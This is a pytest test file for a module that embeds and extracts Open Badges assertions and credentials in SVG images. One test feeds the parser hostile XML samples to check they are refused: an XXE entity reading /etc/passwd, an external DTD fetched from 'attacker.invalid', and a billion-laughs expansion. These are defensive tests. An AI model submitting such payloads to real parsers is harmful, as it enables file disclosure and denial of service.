"""Baking badge payloads into SVG elements and reading them back."""

from __future__ import annotations

import json
from xml.etree import ElementTree

import pytest

from claims.openbadges.baking import BakedPayloads, BakeError, bake_svg, unbake_svg

OB2_TAG = "{http://openbadges.org}assertion"
OB3_TAG = "{https://purl.imsglobal.org/ob/v3p0}credential"
ASSERTION_URL = "https://badges.example.fr/ob2/assertions/4b1e"
OB2_JSON = json.dumps(
    {
        "@context": "https://w3id.org/openbadges/v2",
        "type": "Assertion",
        "id": ASSERTION_URL,
        "badge": "https://badges.example.fr/ob2/badges/7",
        "verification": {"type": "hosted"},
        "issuedOn": "2024-05-14T09:30:00+02:00",
        "evidence": {"narrative": "Atelier « Éducation aux médias » — réussi ]]> à Limoges"},
    },
    ensure_ascii=False,
)
OB3_JSON = json.dumps(
    {
        "type": ["VerifiableCredential", "OpenBadgeCredential"],
        "id": "urn:uuid:0c7e4a8e-2a55-4d1b-9d3c-6b1f1e2f5a10",
        "name": "Découvrir la programmation créative",
    },
    ensure_ascii=False,
)
JWS = "eyJhbGciOiJSUzI1NiJ9.eyJpZCI6IjEifQ.c2lnbmF0dXJl"
SVG = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
     width="200" height="200" viewBox="0 0 200 200" data-note='a > b'>
  <title>Badge \xc2\xab Caf\xc3\xa9 num\xc3\xa9rique \xc2\xbb</title>
  <?inkscape-hint keep?>
  <g inkscape:label="Calque 1"><circle cx="100" cy="100" r="90" fill="#e63"/></g>
  <text x="10" y="20"><![CDATA[a < b]]>&amp;</text>
</svg>
"""


def _root(document: bytes) -> ElementTree.Element:
    return ElementTree.fromstring(document)


def test_baked_svg_unbakes_to_both_payloads() -> None:
    payloads = unbake_svg(bake_svg(SVG, ob2=OB2_JSON, ob3=OB3_JSON))
    assert payloads == BakedPayloads(ob2=OB2_JSON, ob3=OB3_JSON, ob2_verify=ASSERTION_URL)


def test_badge_elements_are_the_first_children_of_the_root() -> None:
    root = _root(bake_svg(SVG, ob2=OB2_JSON, ob3=OB3_JSON))
    assert [child.tag for child in root][:3] == [OB2_TAG, OB3_TAG, "{http://www.w3.org/2000/svg}title"]


def test_ob2_namespace_is_declared_on_the_root_and_ob3_on_its_element() -> None:
    baked = bake_svg(SVG, ob2=OB2_JSON, ob3=OB3_JSON)
    assert b'<svg xmlns:openbadges="http://openbadges.org" xmlns="http://www.w3.org/2000/svg"' in baked
    assert b'<openbadges:credential xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">' in baked


def test_hosted_ob2_verify_is_the_assertion_id() -> None:
    assert _root(bake_svg(SVG, ob2=OB2_JSON))[0].get("verify") == ASSERTION_URL


def test_signed_ob2_jws_is_the_verify_attribute() -> None:
    baked = bake_svg(SVG, ob2=JWS)
    assert b'<openbadges:assertion verify="' + JWS.encode() + b'"/>' in baked
    assert unbake_svg(baked) == BakedPayloads(ob2=JWS, ob3=None, ob2_verify=JWS)


def test_svg_with_only_a_hosted_verify_url_leaves_the_assertion_to_fetch() -> None:
    document = f"""<svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion verify="{ASSERTION_URL}"
        /></svg>"""
    assert unbake_svg(document) == BakedPayloads(ob2=None, ob3=None, ob2_verify=ASSERTION_URL)


def test_explicit_ob2_verify_is_written_as_given() -> None:
    baked = bake_svg(SVG, ob2=OB2_JSON, ob2_verify="https://autre.example.fr/a?x=1&y=\"2\"")
    assert unbake_svg(baked).ob2_verify == "https://autre.example.fr/a?x=1&y=\"2\""


def test_rebaking_svg_leaves_one_element_of_each_kind_with_the_newer_text() -> None:
    first = bake_svg(SVG, ob2=OB2_JSON, ob3=OB3_JSON)
    again = bake_svg(first, ob2='{"id": "https://badges.example.fr/2"}', ob3='{"id": "urn:uuid:2"}')
    root = _root(again)
    assert [element.text for element in root.iter(OB2_TAG)] == ['{"id": "https://badges.example.fr/2"}']
    assert [element.text for element in root.iter(OB3_TAG)] == ['{"id": "urn:uuid:2"}']
    assert again.count(b'xmlns:openbadges="http://openbadges.org"') == 1


def test_rebaking_only_ob3_keeps_the_ob2_element_first() -> None:
    again = bake_svg(bake_svg(SVG, ob2=OB2_JSON, ob3=OB3_JSON), ob3=JWS)
    assert [child.tag for child in _root(again)][:2] == [OB2_TAG, OB3_TAG]
    assert unbake_svg(again) == BakedPayloads(ob2=OB2_JSON, ob3=JWS, ob2_verify=ASSERTION_URL)


def test_baking_changes_nothing_else_in_the_svg() -> None:
    baked = bake_svg(SVG, ob2=JWS, ob3=JWS)
    inserted = (
        b' xmlns:openbadges="http://openbadges.org"',
        b'<openbadges:assertion verify="' + JWS.encode() + b'"/>',
        b'<openbadges:credential xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><![CDATA['
        + JWS.encode()
        + b"]]></openbadges:credential>",
    )
    for text in inserted:
        baked = baked.replace(text, b"", 1)
    assert baked == SVG


def test_cdata_end_and_carriage_return_survive_the_round_trip() -> None:
    payload = '{"a": "x]]>y", "b": "]]]]>", "c": "ligne\r\nsuivante\r"}'
    assert unbake_svg(bake_svg(SVG, ob2=payload, ob3=payload)).ob3 == payload


def test_svg_given_as_text_is_baked() -> None:
    assert unbake_svg(bake_svg(SVG.decode(), ob2=OB2_JSON)).ob2 == OB2_JSON


def test_empty_root_element_is_baked() -> None:
    baked = bake_svg(b'<svg xmlns="http://www.w3.org/2000/svg"/>', ob2=OB2_JSON, ob3=OB3_JSON)
    assert unbake_svg(baked).ob3 == OB3_JSON


def test_unbake_finds_elements_by_namespace_not_by_prefix() -> None:
    document = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:ob="http://openbadges.org"
        xmlns:openbadges="urn:not-a-badge"><openbadges:assertion verify="decoy">decoy</openbadges:assertion>
        <ob:assertion verify="{JWS}"/>
        <v3:credential xmlns:v3="https://purl.imsglobal.org/ob/v3p0">
            <![CDATA[{OB3_JSON}]]>
        </v3:credential></svg>"""
    assert unbake_svg(document) == BakedPayloads(ob2=JWS, ob3=OB3_JSON, ob2_verify=JWS)


def test_root_binding_openbadges_to_ob3_gets_a_local_ob2_declaration() -> None:
    document = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"
        ><openbadges:credential><![CDATA[{OB3_JSON}]]></openbadges:credential></svg>"""
    baked = bake_svg(document, ob2=OB2_JSON)
    assert b'<openbadges:assertion xmlns:openbadges="http://openbadges.org"' in baked
    assert unbake_svg(baked) == BakedPayloads(ob2=OB2_JSON, ob3=OB3_JSON, ob2_verify=ASSERTION_URL)


def test_pretty_printed_payload_is_read_without_surrounding_whitespace() -> None:
    document = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">
      <openbadges:assertion verify="{ASSERTION_URL}">
        <![CDATA[{OB3_JSON}]]>
      </openbadges:assertion></svg>"""
    assert unbake_svg(document).ob2 == OB3_JSON


def test_svg_without_badge_finds_nothing() -> None:
    assert unbake_svg(SVG) == BakedPayloads(ob2=None, ob3=None)


@pytest.mark.parametrize(
    "document",
    [b"", b"not xml at all", b"<html><body/></html>", b"<svg><g></svg>", b"\x89PNG\r\n\x1a\n"],
)
def test_non_svg_is_refused(document: bytes) -> None:
    with pytest.raises(BakeError) as refused:
        unbake_svg(document)
    assert refused.value.reason == "not_svg"


@pytest.mark.parametrize(
    "document",
    [
        b'<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg>&xxe;</svg>',
        b'<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]><svg/>',
        b"<!DOCTYPE svg [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>"
        b"<!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;'>]>"
        b"<svg>&d;</svg>",
    ],
    ids=["xxe", "external-parameter-entity", "billion-laughs"],
)
def test_unsafe_xml_is_refused_by_bake_and_unbake(document: bytes) -> None:
    for operation in (unbake_svg, lambda data: bake_svg(data, ob2=OB2_JSON)):
        with pytest.raises(BakeError) as refused:
            operation(document)
        assert refused.value.reason == "unsafe_xml"


def test_svg_in_another_encoding_is_refused_for_baking() -> None:
    document = '<?xml version="1.0" encoding="ISO-8859-1"?><svg><title>Café</title></svg>'.encode("latin-1")
    assert unbake_svg(document) == BakedPayloads(ob2=None, ob3=None)
    with pytest.raises(BakeError) as refused:
        bake_svg(document, ob2=OB2_JSON)
    assert refused.value.reason == "unsupported_encoding"


def test_fifty_megabyte_svg_is_refused_as_too_large() -> None:
    huge = b"<svg>" + b" " * (50 * 1024 * 1024) + b"</svg>"
    for operation in (unbake_svg, lambda data: bake_svg(data, ob2=OB2_JSON)):
        with pytest.raises(BakeError) as refused:
            operation(huge)
        assert refused.value.reason == "too_large"


@pytest.mark.parametrize("payload", ["", "  \n ", "bell \x07", "lone \ud800 surrogate", "\ufffe"])
def test_payload_xml_cannot_hold_is_refused(payload: str) -> None:
    with pytest.raises(BakeError) as refused:
        bake_svg(SVG, ob3=payload)
    assert refused.value.reason == "bad_payload"


def test_ob2_verify_without_ob2_is_refused() -> None:
    with pytest.raises(BakeError) as refused:
        bake_svg(SVG, ob2_verify=ASSERTION_URL)
    assert refused.value.reason == "bad_payload"


def test_badge_element_with_neither_content_nor_verify_is_refused() -> None:
    document = b'<svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion> </openbadges:assertion></svg>'
    with pytest.raises(BakeError) as refused:
        unbake_svg(document)
    assert refused.value.reason == "bad_payload"


def test_rebaking_ob3_also_removes_a_credential_nested_in_the_kept_assertion() -> None:
    document = b"""<svg xmlns:o="http://openbadges.org" xmlns:c="https://purl.imsglobal.org/ob/v3p0"
        ><o:assertion verify="https://a.example/1"><c:credential>old</c:credential></o:assertion></svg>"""
    assert unbake_svg(bake_svg(document, ob3="new")).ob3 == "new"
